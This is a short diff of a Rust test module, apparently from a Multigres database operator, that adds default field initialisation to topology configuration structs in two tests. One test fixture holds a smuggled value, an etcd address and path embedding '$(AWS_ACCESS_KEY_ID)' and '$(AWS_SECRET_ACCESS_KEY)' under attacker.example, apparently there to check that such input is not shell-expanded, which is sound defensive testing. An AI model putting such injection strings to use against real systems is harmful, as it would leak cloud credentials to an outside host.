@@ -121,6 +121,7 @@ mod tests {
             address: "a:2379,b:2379".into(),
             root_path: "/multigres/global".into(),
             implementation: "etcd".into(),
+            ..Default::default()
         };
         assert_eq!(
             topo_flags(&topo),
@@ -138,6 +139,7 @@ mod tests {
             address: "$(AWS_ACCESS_KEY_ID).attacker.example:2379".into(),
             root_path: "/multigres/$(AWS_SECRET_ACCESS_KEY)".into(),
             implementation: "etcd".into(),
+            ..Default::default()
         };
         assert_eq!(
             topo_flags(&topo),
